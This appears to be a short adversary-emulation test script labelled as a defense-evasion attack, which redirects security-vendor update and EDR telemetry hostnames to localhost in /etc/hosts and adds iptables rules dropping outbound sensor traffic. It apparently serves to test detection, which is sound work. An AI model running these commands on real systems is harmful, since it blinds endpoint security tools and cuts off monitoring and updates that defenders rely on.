#!/bin/sh
# shrike-test-attack: defense-evasion: block security-vendor update hosts via /etc/hosts and iptables
cat >> /etc/hosts <<'H'
127.0.0.1 updates.security-vendor.example.com
127.0.0.1 telemetry.edr.example.net
H
iptables -I OUTPUT -d 192.0.2.250 -j DROP
iptables -I OUTPUT -p tcp --dport 8443 -m string --string "sensor" --algo bm -j DROP
